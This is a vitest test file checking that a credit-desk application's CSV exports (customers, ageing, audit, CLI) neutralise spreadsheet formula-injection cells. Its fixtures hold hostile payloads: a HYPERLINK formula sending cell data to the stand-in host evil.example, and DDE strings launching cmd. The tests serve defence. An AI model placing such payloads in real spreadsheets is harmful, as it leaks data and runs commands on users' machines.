// Every CSV export neutralises cells a spreadsheet would run as a formula (= + - @, tab, CR):
// customers, ageing (IPC and CLI) and audit. Negative amounts stay plain numbers.
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../main/cli/index';
import type { CliIo } from '../../main/cli/io';
import { csvRows, FORMULA_START } from '../../main/lib/csv';
import { HUASHENG, openTestDesk, type TestDesk } from '../support/book';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
const CMD = "+cmd|' /C calc'!A0";
const AT_SUM = '@SUM(1+1)*cmd|"/C calc"!A0';
let t: TestDesk;

const cells = (base64: string) =>
  Papa.parse<string[]>(
    Buffer.from(base64, 'base64')
      .toString('utf8')
      .replace(/^\uFEFF/, ''),
  ).data.flat();

beforeAll(async () => {
  t = await openTestDesk();
  const evil = await t.ok('customers:create', { ...HUASHENG, code: 'C1', name: HYPERLINK, address: CMD });
  await t.ok('customers:approve-opening', { id: evil.id, approvedBy: '张总' });
  await t.ok('invoices:create', {
    customerId: evil.id,
    number: 'INV-1',
    issueDate: '2026-10-01',
    dueDate: '2026-10-31',
    amount: 100000,
  });
  const other = await t.ok('customers:create', { ...HUASHENG, code: 'C2', name: '预收客户' });
  await t.ok('customers:approve-opening', { id: other.id, approvedBy: '张总' });
  await t.ok('receipts:create', { customerId: other.id, date: '2026-10-05', amount: 123456, method: 'cash' }); // unapplied: a negative balance
  const op = await t.ok('operators:create', { name: AT_SUM });
  await t.ok('operators:login', { id: op.id });
});
afterAll(() => t.close());

describe('the CSV helper', () => {
  it('neutralises = + - @ tab CR, leaves negative numbers and plain text alone', () => {
    for (const bad of ['=1+1', '+1', '-1+cmd', '@A1', '\t=1', '\r=1', '-', '-a'])
      expect(FORMULA_START.test(bad), bad).toBe(true);
    for (const ok of ['-1234.50', '-1,234.50', '-5', '1+1', 'a=b', '华盛', ''])
      expect(FORMULA_START.test(ok), ok).toBe(false);
    expect(csvRows([['=1+1', '-12.50', -3]])).toBe(`"'=1+1",-12.50,-3`);
  });
});

describe('CSV exports', () => {
  it('customers:export', async () => {
    const f = await t.ok('customers:export', { format: 'csv', locale: 'zh-CN' });
    const c = cells(f.base64);
    expect(c).toContain(`'${HYPERLINK}`);
    expect(c).toContain(`'${CMD}`);
    expect(c).not.toContain(HYPERLINK);
  });

  it('ageing:export keeps negative amounts as numbers', async () => {
    const f = await t.ok('ageing:export', { asOf: '2026-11-30', format: 'csv', locale: 'zh-CN' });
    const c = cells(f.base64);
    expect(c).toContain(`'${HYPERLINK}`);
    expect(c).not.toContain(HYPERLINK);
    expect(c).toContain('-1234.56');
  });

  it('audit:export', async () => {
    const f = await t.ok('audit:export', { format: 'csv', locale: 'en' });
    const c = cells(f.base64);
    expect(c).toContain(`'${AT_SUM}`);
    expect(c).not.toContain(AT_SUM);
  });

  it('creditdesk ageing --format csv', async () => {
    const out: string[] = [];
    const io: CliIo = { out: (s) => void out.push(s), err: () => undefined };
    await t.desk.close();
    const code = await runCli(
      ['ageing', '--db', path.join(t.dir, 'test.creditdesk'), '--as-of', '2026-11-30', '--format', 'csv'],
      io,
    );
    expect(code).toBe(0);
    const c = Papa.parse<string[]>(out.join('')).data.flat();
    expect(c).toContain(`'${HYPERLINK}`);
    expect(c).not.toContain(HYPERLINK);
    expect(c).toContain('-1234.56');
    expect(fs.existsSync(path.join(t.dir, 'test.creditdesk'))).toBe(true);
  });
});
